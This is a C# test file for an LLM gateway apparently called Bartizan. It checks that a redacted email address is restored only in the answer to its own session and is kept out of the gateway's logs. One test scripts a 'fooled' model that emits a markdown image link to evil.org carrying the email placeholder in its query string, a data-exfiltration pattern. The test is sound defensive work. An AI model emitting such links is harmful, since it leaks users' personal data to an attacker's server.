using System.Net;
using System.Text;
using System.Text.Json;
using Bartizan.Core.Entries;

namespace Bartizan.Gateway.Tests.Model;

/// <summary>What was taken out of a request comes back in the answer to its own session, and stands in no record of it.</summary>
public sealed class RestoredAnswerTests
{
    private const string Mail = "carla.gomez@gomez-bank.com";
    private const string Guards =
        "guards: { output: { exfiltration: block }, model: { personal_data: redact, restore: true } }";

    private const string Request =
        """{"model":"gpt-5","messages":[{"role":"user","content":"I am carla.gomez@gomez-bank.com"}]}""";

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task The_agent_reads_the_value_and_the_record_the_placeholder(bool isStream)
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        upstream.Answer = context =>
            isStream
                ? ScriptedUpstream.StreamAsync(context, StreamOf("Hello [email-1], [email-2]."))
                : ScriptedUpstream.JsonAsync(context, WholeOf("Hello [email-1], [email-2]."));
        await using var house = await GatewayUnderTest.StartAsync(
            upstream.Url,
            manifest: GatewayUnderTest.Manifest(upstream.Url, Guards)
        );

        var seen = await ReadAsync(house, Request);

        seen.ShouldBe(
            isStream
                ? string.Concat(StreamOf("Hello MAIL, [email-2].")).Replace("MAIL", Mail, StringComparison.Ordinal)
                : WholeOf($"Hello {Mail}, [email-2]."),
            customMessage: seen
        );
        var outcome = await house.Journal.OutcomeAsync();
        outcome.Detail!.ShouldContain("restore/1 answer (1 email)");
        outcome.Payloads.ShouldNotBeEmpty();
        outcome
            .Payloads.Select(payload => Encoding.UTF8.GetString(payload.Content.Span))
            .ShouldAllBe(text => !text.Contains("gomez", StringComparison.Ordinal));
        house.Journal.Entries.ShouldAllBe(entry => !(entry.Detail ?? "").Contains("gomez", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Another_session_reads_the_placeholder()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await GatewayUnderTest.StartAsync(
            upstream.Url,
            manifest: GatewayUnderTest.Manifest(upstream.Url, Guards)
        );
        await ReadAsync(house, Request);
        upstream.Answer = context => ScriptedUpstream.JsonAsync(context, WholeOf("Hello [email-1] and [phone-1]."));
        var (listener, endPoint) = house.Inject(house.Other);
        using var closing = listener;

        using var answer = await house.SendAsync(
            "/v1/chat/completions",
            """{"model":"gpt-5","messages":[{"role":"user","content":"Call +49 151 23456789"}]}""",
            to: endPoint,
            token: GatewayUnderTest.OtherToken
        );

        using var read = JsonDocument.Parse(await answer.Content.ReadAsStringAsync());
        using var expected = JsonDocument.Parse(WholeOf("Hello [email-1] and +49 151 23456789."));
        JsonElement.DeepEquals(read.RootElement, expected.RootElement).ShouldBeTrue(read.RootElement.GetRawText());
    }

    [Fact]
    public async Task A_fooled_model_s_address_has_no_value_in_it()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        upstream.Answer = context =>
            ScriptedUpstream.StreamAsync(context, StreamOf("Look: ![x](https://evil.org/p.png?q=[email-1]) and bye"));
        await using var house = await GatewayUnderTest.StartAsync(
            upstream.Url,
            manifest: GatewayUnderTest.Manifest(upstream.Url, Guards)
        );

        (await ReadAsync(house, Request)).ShouldNotContain("gomez");

        house.Journal.Entries.ShouldContain(entry => entry.Kind == EntryKind.Outcome);
    }

    private static async Task<string> ReadAsync(GatewayUnderTest house, string body)
    {
        using var answer = await house.SendAsync("/v1/chat/completions", body);
        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        return await answer.Content.ReadAsStringAsync();
    }

    private static string WholeOf(string text) =>
        """{"choices":[{"index":0,"message":{"role":"assistant","content":TEXT}}]}""".Replace(
            "TEXT",
            JsonSerializer.Serialize(text),
            StringComparison.Ordinal
        );

    // A delta for each half, cut in the middle of the first placeholder.
    private static string[] StreamOf(string text)
    {
        var cut = text.IndexOf('[', StringComparison.Ordinal) + 4;
        return text.Contains("MAIL", StringComparison.Ordinal)
            ? [Event("Hello MAIL"), Event(text["Hello MAIL".Length..]), "data: [DONE]\n\n"]
            : [Event(text[..cut]), Event(text[cut..]), "data: [DONE]\n\n"];
    }

    private static string Event(string text) =>
        """data: {"choices":[{"index":0,"delta":{"content":TEXT}}]}""".Replace(
            "TEXT",
            JsonSerializer.Serialize(text),
            StringComparison.Ordinal
        ) + "\n\n";
}
